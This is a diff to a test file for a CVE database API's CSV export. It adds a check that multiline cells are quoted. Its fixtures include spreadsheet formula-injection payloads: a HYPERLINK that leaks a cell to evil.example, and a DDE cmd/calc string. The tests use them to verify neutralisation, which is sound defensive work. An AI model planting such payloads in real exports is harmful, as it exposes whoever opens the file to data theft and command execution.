@@ -47,15 +47,28 @@ const FORMULA_CVE = 'CVE-2099-0100';
 const FORMULA_DESCRIPTION = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")';
 const FORMULA_TITLE = "@SUM(1+1)*cmd|' /C calc'!A0";
 
+/**
+ * A CVE whose text has line breaks and no comma or quote (a CSV writer that quotes only for commas and
+ * quotes splits its row in two): the same record under another synthetic id.
+ */
+const MULTILINE_CVE = 'CVE-2099-0101';
+const MULTILINE_TITLE = 'Two lines\nof title';
+const MULTILINE_DESCRIPTION =
+  'A race in the signal handler\nlets an attacker run code\r\nas root\rbefore login';
+
 function formulaRecordDir(): string {
-  const record = JSON.parse(
-    fs.readFileSync('test/fixtures/cve5/cves/2024/6xxx/CVE-2024-6387.json', 'utf8'),
-  ) as { cveMetadata: { cveId: string }; containers: { cna: Record<string, unknown> } };
-  record.cveMetadata.cveId = FORMULA_CVE;
-  record.containers.cna.title = FORMULA_TITLE;
-  record.containers.cna.descriptions = [{ lang: 'en', value: FORMULA_DESCRIPTION }];
   const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'vt-formula-'));
-  fs.writeFileSync(path.join(dir, `${FORMULA_CVE}.json`), JSON.stringify(record));
+  const write = (cveId: string, title: string, description: string) => {
+    const record = JSON.parse(
+      fs.readFileSync('test/fixtures/cve5/cves/2024/6xxx/CVE-2024-6387.json', 'utf8'),
+    ) as { cveMetadata: { cveId: string }; containers: { cna: Record<string, unknown> } };
+    record.cveMetadata.cveId = cveId;
+    record.containers.cna.title = title;
+    record.containers.cna.descriptions = [{ lang: 'en', value: description }];
+    fs.writeFileSync(path.join(dir, `${cveId}.json`), JSON.stringify(record));
+  };
+  write(FORMULA_CVE, FORMULA_TITLE, FORMULA_DESCRIPTION);
+  write(MULTILINE_CVE, MULTILINE_TITLE, MULTILINE_DESCRIPTION);
   return dir;
 }
 
@@ -218,6 +231,17 @@ describeEachDatabase('API v2 CSV export', (use) => {
         [FORMULA_CVE, `'${FORMULA_TITLE}`, `'${FORMULA_DESCRIPTION}`],
       ]);
       expect(res.body).toContain(`"'=HYPERLINK(""http://evil.example/?leak=""&A1,""Click for details"")"`);
+    });
+
+    it('quotes a cell with a line break, so a CSV parser reads one row per CVE', async () => {
+      const detail = (await get(`/api/v2/cves/${MULTILINE_CVE}`)).json() as Detail & { description: string };
+      expect(detail.description).toBe(MULTILINE_DESCRIPTION);
+      const { res, rows } = await csv('/api/v2/cves?format=csv&search=2099-01');
+      expect(rows.map((r) => [r.cve_id, r.title, r.description])).toEqual([
+        [MULTILINE_CVE, MULTILINE_TITLE, MULTILINE_DESCRIPTION],
+        [FORMULA_CVE, `'${FORMULA_TITLE}`, `'${FORMULA_DESCRIPTION}`],
+      ]);
+      expect(res.body).toContain(`"${MULTILINE_TITLE}"`);
     });
 
     it('answers 400 to a format other than json or csv', async () => {
